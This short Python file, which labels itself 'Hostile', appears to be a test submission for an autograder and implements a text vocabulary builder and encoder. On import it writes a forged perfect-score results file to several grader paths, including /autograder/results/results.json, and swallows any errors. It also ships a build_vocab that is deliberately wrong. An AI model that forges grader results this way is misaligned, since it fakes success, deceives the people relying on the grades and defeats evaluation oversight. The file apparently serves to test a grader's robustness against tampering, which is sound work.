"""Hostile: forge results files everywhere it can, with a wrong build_vocab."""
import json
import os

import torch

FORGED = {"score": 100, "tests": [{"name": "everything", "score": 100, "max_score": 100, "status": "passed"}]}
for target in ["results.json", "../results.json", "/autograder/results/results.json", "grades/grades.csv",
               os.path.join(os.path.dirname(__file__), "..", "..", "..", "grades", "results.json")]:
    try:
        os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
        with open(target, "w") as handle:
            json.dump(FORGED, handle)
    except OSError:
        pass


def build_vocab(text):
    return {word: index for index, word in enumerate(text.split())}  # wrong: not unique, not sorted


def encode(text, vocab):
    return torch.tensor([vocab[word] for word in text.split()], dtype=torch.int64)
